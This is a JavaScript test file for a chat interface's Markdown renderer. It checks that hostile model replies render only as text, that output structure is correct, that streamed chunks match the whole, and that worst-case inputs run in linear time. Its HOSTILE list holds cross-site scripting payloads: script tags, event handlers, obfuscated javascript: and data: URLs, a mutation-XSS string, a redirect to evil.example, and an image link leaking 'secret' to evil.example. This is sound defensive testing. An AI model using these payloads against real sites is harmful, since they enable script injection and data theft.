// Cases of Markdown: nothing in a reply becomes more than text, pieces make what the whole makes, time is linear.

import assert from "node:assert/strict";
import { Driver } from "./driver.mjs";

/** Attempts to get anything but text into the page. */
export const HOSTILE = [
  "<script>window.hit = 1</script>",
  "<img src=x onerror=window.hit=1>",
  "<svg onload=window.hit=1><a xlink:href=javascript:window.hit=1>x</a></svg>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](  javascript:window.hit=1)",
  "[d](java\tscript:window.hit=1) [e](java&#10;script:window.hit=1) [f](&#106;avascript:window.hit=1)",
  "[g](data:text/html,<script>window.hit=1</script>) [h](vbscript:x) [i](file:///etc/passwd) [j](//evil.example/x)",
  '[k](https://ok.example/"onmouseover="window.hit=1) [l](https://ok.example/ "t" onclick=window.hit=1)',
  "![m](javascript:window.hit=1) ![n](https://evil.example/leak?q=secret)",
  "<javascript:window.hit=1> <https://ok.example/><script>window.hit=1</script>",
  "`<script>window.hit=1</script>`",
  "```<script>\n<script>window.hit=1</script>\n```",
  '```"><img/src=x/onerror=window.hit=1>\ncode\n```',
  "| <img src=x onerror=window.hit=1> | [x](javascript:window.hit=1) |\n|---|---|\n| <b onclick=window.hit=1>y</b> | z |",
  "# <style>*{display:none}</style>",
  "> - <form action=javascript:window.hit=1><button>x</button></form>",
  "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
  "<a href=x style=position:fixed;inset:0>overlay</a> <details open ontoggle=window.hit=1>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=window.hit=1>\">",
].join("\n\n");

/** All that a rendered message may consist of. */
const TAGS = "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL".split(" ");
const ATTRIBUTES = "aria-label class href rel role scope start tabindex target type".split(" ");

async function hostile(browser, fake) {
  const page = await Driver.open(browser, fake.url);
  let asked = [];
  page.page.on("request", (request) => asked.push(request.url()));
  fake.script = (reply) => {
    reply.chunk({ reasoning_content: HOSTILE });
    for (let i = 0; i < HOSTILE.length; i += 11) reply.content(HOSTILE.slice(i, i + 11));
    reply.finish("stop");
  };
  await page.ask(HOSTILE);
  await page.page.reload();
  await page.page.waitForSelector(".assistant .markdown p");
  const found = await page.page.evaluate(() => {
    const inside = [...document.querySelectorAll(".markdown *")];
    return {
      tags: [...new Set(inside.map((element) => element.tagName))],
      attributes: [...new Set(inside.flatMap((element) => element.getAttributeNames()))],
      links: [...document.querySelectorAll(".markdown a")].map((a) => [a.getAttribute("href"), a.rel, a.target]),
      scripts: document.scripts.length,
      hit: window.hit,
      plain: document.querySelectorAll(".user .text *, .thinking-text *").length,
    };
  });
  assert.equal(found.hit, undefined, "something ran");
  assert.deepEqual(found.tags.filter((tag) => !TAGS.includes(tag)), []);
  assert.deepEqual(found.attributes.filter((name) => !ATTRIBUTES.includes(name)), []);
  assert.equal(found.scripts, 1);
  assert.equal(found.plain, 0);
  assert.ok(found.links.length > 0);
  for (const [href, rel, target] of found.links) {
    assert.match(href, /^https:\/\/(?:ok|evil)\.example\//);
    assert.deepEqual([rel, target], ["noopener noreferrer", "_blank"]);
  }
  assert.ok((await page.text(".assistant .markdown")).includes("<script>window.hit = 1</script>"), "it is shown as text");
  asked = asked.filter((url) => !url.startsWith(fake.url) && !url.startsWith("data:"));
  assert.deepEqual(asked, [], "the page asked elsewhere");
  await page.close();
}

/** Renders each text in the page, whole, and returns the HTML without attributes that do not matter here. */
async function render(page, texts) {
  return page.page.evaluate(async (all) => {
    const { renderMarkdown } = await import("/page/markdown.js");
    return all.map((text) => {
      const host = document.createElement("div");
      renderMarkdown(text, host);
      for (const head of host.querySelectorAll(".code-head")) head.remove();
      for (const element of host.querySelectorAll("*")) {
        for (const name of element.getAttributeNames()) if (!["href", "start"].includes(name)) element.removeAttribute(name);
      }
      return host.innerHTML;
    });
  }, texts);
}

const EXAMPLES = [
  ["plain", "<p>plain</p>"],
  ["42.", "<p>42.</p>"],
  ["a\nb", "<p>a<br>b</p>"],
  ["# A\n\n### B\n# C ##", "<h3>A</h3><h4>B</h4><h3>C</h3>"],
  ["**b** *i* ***bi*** _u_ ~~d~~ a_b_c", "<p><strong>b</strong> <em>i</em> <em><strong>bi</strong></em> <em>u</em> <del>d</del> a_b_c</p>"],
  ["**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"],
  ["2 * 3 * 4 and **open", "<p>2 * 3 * 4 and **open</p>"],
  ["`a` ``b`c`` `open", "<p><code>a</code> <code>b`c</code> `open</p>"],
  ["\\*not\\* &lt;b&gt; &amp;", "<p>*not* &lt;b&gt; &amp;</p>"],
  ["[t](https://e.org/a_(b)) [**x**](mailto:a@b.c) [no](ftp://x)", '<p><a href="https://e.org/a_(b)">t</a> <a href="mailto:a@b.c"><strong>x</strong></a> [no](ftp://x)</p>'],
  ["see https://e.org/x_y. And (https://e.org/z).", '<p>see <a href="https://e.org/x_y">https://e.org/x_y</a>. And (<a href="https://e.org/z">https://e.org/z</a>).</p>'],
  ["<https://e.org/>", '<p><a href="https://e.org/">https://e.org/</a></p>'],
  ["- a\n- b\n  - c\n\n  d\n* e", "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul><p>d</p></li></ul><ul><li><p>e</p></li></ul>"],
  ["3. a\n4. b\n  - c", '<ol start="3"><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul></li></ol>'],
  ["- a\n  ```\n  x\n  ```\n- b", "<ul><li><p>a</p><div><pre><code>x\n</code></pre></div></li><li><p>b</p></li></ul>"],
  ["> a\n> > b\nc", "<blockquote><p>a</p><blockquote><p>b\nc</p></blockquote></blockquote>".replace("\n", "<br>")],
  ["a\n***\nb", "<p>a</p><hr><p>b</p>"],
  ["```js\n<b>\n```\nafter", "<div><pre><code>&lt;b&gt;\n</code></pre></div><p>after</p>"],
  ["~~~\n```\n~~~", "<div><pre><code>```\n</code></pre></div>"],
  ["````\n```\n````", "<div><pre><code>```\n</code></pre></div>"],
  ["    code\n\n    more", "<div><pre><code>code\n\nmore\n</code></pre></div>"],
  ["x\n| a | b |\n|---|:-:|\n| 1 | 2 \\| 3 | 4 |\n| 5 |\n\ny", "<p>x</p><div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2 | 3</td></tr><tr><td>5</td><td></td></tr></tbody></table></div><p>y</p>"],
  ["- [x] a\n- [ ] b", "<ul><li><p>☑ a</p></li><li><p>☐ b</p></li></ul>"],
  ["![alt](https://e.org/i.png)", '<p><a href="https://e.org/i.png">alt</a></p>'],
];

async function structure(browser, fake) {
  const page = await Driver.open(browser, fake.url);
  const shown = await render(page, EXAMPLES.map(([text]) => text));
  for (const [i, [text, html]] of EXAMPLES.entries()) assert.equal(shown[i], html, JSON.stringify(text));
  await page.close();
}

async function pieces(browser, fake) {
  const page = await Driver.open(browser, fake.url);
  const all = EXAMPLES.map(([text]) => text);
  const text = [...all, ...all.map((t) => `- ${t.replaceAll("\n", "\n  ")}`), HOSTILE].join("\n\n");
  const differing = await page.page.evaluate(async (source) => {
    const { MarkdownStream, renderMarkdown } = await import("/page/markdown.js");
    const whole = document.createElement("div");
    renderMarkdown(source, whole);
    const bad = [];
    for (const size of [1, 2, 3, 7, 64, 1000]) {
      const host = document.createElement("div");
      const stream = new MarkdownStream(host);
      for (let i = 0; i < source.length; i += size) {
        stream.push(source.slice(i, i + size));
        stream.draw();
      }
      stream.end();
      host.normalize();
      if (host.innerHTML !== whole.innerHTML) bad.push(size);
    }
    return bad;
  }, text);
  assert.deepEqual(differing, [], "pieces of these sizes make something else");
  await page.close();
}

const LENGTH = 100_000;
/** A quadratic step over that length takes minutes; a busy machine makes linear ones slow as well. */
const LIMIT_MS = 30_000;
const MEAN = {
  "unclosed emphasis": "*a **b _c ",
  "closed emphasis": "*a **b** c* ",
  "backtick runs": "` `` ``` ```` ",
  "brackets": "[[[[",
  "closing brackets": "]](](",
  "half links": "[a](b ",
  "nested quotes": "> ",
  "nested lists": "- ",
  "list": "- a\n",
  "list two deep": "- a\n  - b\n",
  "numbers": "1. a\n",
  "table": "|a|b|\n|-|-|\n",
  "pipes": "|",
  "one word": "a",
  "line feeds": "\n",
  "fences": "```\n",
  "tildes": "~~",
  "angles": "<",
  "entities": "&am",
  "addresses": "https://a.b/",
  "spaces": "  ",
  "rules": "- - ",
  "headings": "# a\n",
  "hashes": "# #",
  "escapes": "\\*",
};

async function linear(browser, fake) {
  const page = await Driver.open(browser, fake.url);
  let worst = { name: "", ms: 0 };
  for (const [name, piece] of [...Object.entries(MEAN), ["an open fence", "x = 1\n"]]) {
    const opening = name === "an open fence" ? "```\n" : "";
    const short = await page.page.evaluate(streamThrough, piece, opening, LENGTH / 4);
    const long = await page.page.evaluate(streamThrough, piece, opening, LENGTH);
    assert.ok(long.ms < LIMIT_MS, `${name}: ${Math.round(long.ms)} ms`);
    assert.ok(long.depth <= 100, `${name}: elements are nested ${long.depth} deep`);
    // Nodes are counted, as time depends on who else is on the machine. Four times the text: four times the nodes.
    assert.ok(long.nodes < 6 * short.nodes + 10_000, `${name}: ${short.nodes} nodes, then ${long.nodes}`);
    if (long.ms > worst.ms) worst = { name, ...long };
  }
  console.log(`      ${LENGTH} characters in 500 pieces: slowest is "${worst.name}", ${Math.round(worst.ms)} ms`);
  await page.close();
}

/** In the page: streams a text of `length` in 500 pieces. Returns the time, the nodes created, how deep they nest. */
async function streamThrough(piece, opening, length) {
  const { MarkdownStream } = await import("/page/markdown.js");
  const text = (opening + piece.repeat(Math.ceil(length / piece.length))).slice(0, length);
  const host = document.createElement("div");
  const stream = new MarkdownStream(host);
  let nodes = 0;
  const { createElement, createTextNode } = document;
  const count = (create) => (...values) => {
    nodes += 1;
    return create.apply(document, values);
  };
  Object.assign(document, { createElement: count(createElement), createTextNode: count(createTextNode) });
  const start = performance.now();
  const step = Math.ceil(length / 500);
  for (let i = 0; i < text.length; i += step) {
    stream.push(text.slice(i, i + step));
    stream.draw();
  }
  stream.end();
  const ms = performance.now() - start;
  Object.assign(document, { createElement, createTextNode });
  let depth = 0;
  for (let level = [...host.children]; level.length > 0 && depth <= 100; depth++) level = level.flatMap((element) => [...element.children]);
  return { ms, nodes, depth };
}

export const cases = [
  ["markdown: hostile replies are inert", hostile],
  ["markdown: structure", structure],
  ["markdown: pieces of any size make what the whole makes", pieces],
  ["markdown: the worst texts take linear time and bounded depth", linear],
];
